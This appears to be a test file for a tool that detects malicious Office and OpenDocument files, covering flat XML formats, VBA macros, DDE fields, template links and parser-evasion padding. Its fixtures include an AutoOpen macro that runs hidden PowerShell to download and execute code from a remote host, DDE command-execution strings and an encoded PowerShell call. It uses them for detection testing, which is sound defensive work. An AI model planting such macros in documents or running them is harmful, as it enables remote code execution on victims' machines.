// Documents that are one XML text hold what their packages hold, and are judged alike.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { analyzeFile } from '../../../src/index.ts'
import { paragraph, wordDocument } from '../traits/write-office.ts'
import { vbaProjectBin } from '../traits/write-vba.ts'

const now = new Date('2026-01-01T00:00:00Z')
const MACRO = [
  {
    name: 'ThisDocument',
    source:
      'Sub AutoOpen()\nShell "powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\')"\nEnd Sub',
  },
]
const judge = (text: string | Uint8Array, fileName: string) => analyzeFile(Buffer.from(text), { fileName, now })

function flatPackage(parts: Readonly<Record<string, string | Uint8Array>>, prefix = 'pkg'): string {
  const [p, declared] = prefix === '' ? ['', 'xmlns'] : [`${prefix}:`, `xmlns:${prefix}`]
  const rows = Object.entries(parts).map(([name, content]) =>
    typeof content === 'string'
      ? `<${p}part ${p}name="/${name}"><${p}xmlData>${content}</${p}xmlData></${p}part>`
      : `<${p}part ${p}name="/${name}"><${p}binaryData>${Buffer.from(content).toString('base64')}</${p}binaryData></${p}part>`,
  )
  return `<?xml version="1.0"?>\n<${p}package ${declared}="http://schemas.microsoft.com/office/2006/xmlPackage">${rows.join('')}</${p}package>`
}

function activeMime(bytes: Uint8Array): Buffer {
  const header = Buffer.alloc(0x32)
  header.write('ActiveMime', 'latin1')
  header.writeUInt16LE(4, 0x1e)
  return Buffer.concat([header, deflateSync(bytes)])
}

const wordXml = (inner: string): string =>
  `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:v="urn:schemas-microsoft-com:vml">${inner}<w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p></w:body></w:wordDocument>`
const binData = (name: string, bytes: Uint8Array): string =>
  `<w:docSuppData><w:binData w:name="${name}">${Buffer.from(bytes).toString('base64')}</w:binData></w:docSuppData>`
const DOCUMENT = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p></w:body></w:document>'

describe('flat OPC', () => {
  test('its macros weigh what they weigh in a package', async () => {
    const packed = await judge(wordDocument(paragraph('Report'), {}, MACRO), 'a.docm')
    for (const prefix of ['pkg', 'x', '']) {
      const text = flatPackage({ 'word/document.xml': DOCUMENT, 'word/vbaProject.bin': vbaProjectBin(MACRO) }, prefix)
      const flat = await judge(text, 'a.xml')
      assert.equal(flat.root.facts.type.id, 'word_xml')
      assert.equal(flat.root.facts.office?.container, 'xml')
      assert.equal(flat.root.facts.office?.vba?.modules.length, 1)
      assert.equal(flat.verdict.label, packed.verdict.label)
    }
    assert.equal(packed.verdict.label, 'malicious')
  })

  test('an external template is a link, and plain text is clean', async () => {
    const rels =
      '<Relationships xmlns="x"><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'
    const linked = await judge(
      flatPackage({ 'word/document.xml': DOCUMENT, 'word/_rels/settings.xml.rels': rels }),
      'a.xml',
    )
    assert.deepEqual(linked.root.facts.office?.links, [
      { kind: 'attachedTemplate', target: 'http://198.51.100.7/t.dotm', where: 'word/_rels/settings.xml.rels' },
    ])
    assert.notEqual(linked.verdict.label, 'clean')
    const plain = await judge(flatPackage({ 'word/document.xml': DOCUMENT }), 'a.xml')
    assert.equal(plain.verdict.label, 'clean')
    assert.match(plain.root.facts.office?.text ?? '', /Report/)
  })

  test('macros that cannot be read make the document unknown', async () => {
    const broken = Buffer.concat([vbaProjectBin(MACRO).subarray(0, 512), Buffer.alloc(1024)])
    const { verdict } = await judge(
      flatPackage({ 'word/document.xml': DOCUMENT, 'word/vbaProject.bin': broken }),
      'a.xml',
    )
    assert.equal(verdict.label, 'unknown')
  })
})

describe('Word 2003 XML', () => {
  test('its macros are read, whatever they are called', async () => {
    for (const name of ['editdata.mso', 'picture.png']) {
      const { root, verdict } = await judge(wordXml(binData(name, activeMime(vbaProjectBin(MACRO)))), 'a.doc')
      assert.equal(root.facts.type.id, 'word_xml')
      assert.equal(root.facts.office?.vba?.modules.length, 1, name)
      assert.equal(verdict.label, 'malicious')
    }
  })

  test('fields and templates are read', async () => {
    const field =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    const dde = await judge(wordXml(field), 'a.xml')
    assert.equal(dde.root.facts.office?.dde.length, 1)
    assert.notEqual(dde.verdict.label, 'clean')
    const template = await judge(
      wordXml('<w:docPr><w:attachedTemplate w:val="https://host.example/a.dot"/></w:docPr>'),
      'a.xml',
    )
    assert.deepEqual(template.root.facts.office?.links, [
      { kind: 'attachedTemplate', target: 'https://host.example/a.dot', where: 'w:attachedTemplate' },
    ])
  })

  test('a plain document with a picture is clean', async () => {
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    )
    const { verdict } = await judge(
      wordXml(`<w:docPr><w:attachedTemplate w:val="Normal.dot"/></w:docPr>${binData('wordml://01.png', png)}`),
      'a.xml',
    )
    assert.equal(verdict.label, 'clean')
  })
})

describe('Excel 2003 XML', () => {
  const workbook = (cells: string): string =>
    `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row>${cells}</Row></Table></Worksheet></Workbook>`

  test('a cell that starts a program convicts, a sum does not', async () => {
    const dde = await judge(
      workbook(`<Cell ss:Formula="=cmd|'/c calc'!A0"><Data ss:Type="String">x</Data></Cell>`),
      'a.xls',
    )
    assert.equal(dde.verdict.label, 'malicious')
    const sum = await judge(
      workbook(
        '<Cell ss:Formula="=SUM(R[-2]C:R[-1]C)"><Data ss:Type="Number">3</Data></Cell><Cell ss:HRef="https://shop.example/"><Data>Shop</Data></Cell>',
      ),
      'a.xls',
    )
    assert.equal(sum.verdict.label, 'clean')
    assert.deepEqual(sum.root.facts.office?.links, [
      { kind: 'hyperlink', target: 'https://shop.example/', where: 'Cell' },
    ])
  })
})

describe('flat OpenDocument', () => {
  test('its Basic is read', async () => {
    const { root } = await judge(
      '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:ooo="http://openoffice.org/2004/office" office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts><office:script><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>Sub Main\nShell("cmd /c powershell -enc SQBFAFgA")\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script></office:scripts><office:body><office:text><text:p>Hello</text:p></office:text></office:body></office:document>',
      'a.fodt',
    )
    assert.equal(root.facts.type.id, 'flat_odf')
    assert.equal(root.facts.office?.container, 'odf')
    assert.equal(root.facts.office?.otherMacros[0]?.kind, 'basic')
  })
})

describe('what stands in front of the root', () => {
  const macros = binData('editdata.mso', activeMime(vbaProjectBin(MACRO)))
  const padded = (front: string): string => wordXml(macros).replace('<?mso', () => `${front}<?mso`)
  for (const [name, front] of Object.entries({
    'a long comment': `<!-- ${'x'.repeat(100_000)} -->`,
    'many comments and lines': '<!-- x -->\n\n'.repeat(10_000),
    'a long instruction': `<?x ${'x'.repeat(100_000)}?>`,
    'a comment in a comment': `<!-- <!-- ${'-'.repeat(40_000)} -->`,
  }))
    test(`${name} hides nothing`, async () => {
      const texts = [padded(front), padded(front).replace('<?mso-application progid="Word.Document"?>', '')]
      for (const bytes of [...texts.map((text) => Buffer.from(text)), Buffer.from(`\ufeff${texts[0]}`, 'utf16le')]) {
        const { root, verdict } = await judge(bytes, 'a.xml')
        assert.equal(root.facts.type.id, 'word_xml')
        assert.equal(verdict.label, 'malicious')
      }
    })

  test('other markup is known behind it as well', async () => {
    const comment = `<?xml version="1.0"?><!-- ${'x'.repeat(100_000)} -->`
    for (const [text, type] of [
      ['<package><job id="a"><script language="JScript">WScript.Echo(1)</script></job></package>', 'wsf'],
      ['<svg xmlns="http://www.w3.org/2000/svg"><rect width="1"/></svg>', 'svg'],
      ['<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003"></Project>', 'msbuild'],
      ['<html><body>hello</body></html>', 'html'],
    ] as const)
      assert.equal((await judge(comment + text, 'a.txt')).root.facts.type.id, type)
  })

  test('a script that begins like a comment stays a script', async () => {
    const { root } = await judge(`<!--\nvar a = 1;\n${'function f(x) { return x + 1 }\n'.repeat(100)}//-->\n`, 'a.js')
    assert.equal(root.facts.type.id, 'javascript')
  })
})

test('a text of nothing but openings ends in time', async () => {
  for (const opening of [
    '<pkg:part pkg:name="/a"><pkg:binaryData>',
    '<w:binData w:name="a">',
    '<w:binData',
    '<w:hlink ',
  ])
    for (const frame of [
      flatPackage({ 'word/document.xml': opening.repeat(100_000) }),
      wordXml(opening.repeat(100_000)),
    ]) {
      const started = performance.now()
      const { verdict } = await judge(frame, 'a.xml')
      assert.notEqual(verdict.label, 'malicious')
      assert.ok(performance.now() - started < 20_000)
    }
})
